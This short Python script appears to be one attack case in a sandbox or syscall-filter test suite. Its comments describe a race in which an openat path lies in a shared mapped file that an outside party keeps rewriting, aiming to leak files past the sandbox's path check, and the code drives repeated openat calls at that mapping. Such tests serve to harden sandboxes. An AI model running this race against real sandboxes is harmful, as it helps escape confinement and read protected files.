# SPDX-License-Identifier: Apache-2.0
# attack: the path lies in a mapped file that somebody outside keeps rewriting
# class: race
# wins: leak
# needs: race map
from kit import *

fd = openat(BOX + '/race/pathmap')
addr = page(4096, 1, 0x01, None, fd)
tried()
rounds(lambda i: took(sc('openat', AT_FDCWD, ctypes.c_void_p(addr + 1024), 0, 0)))
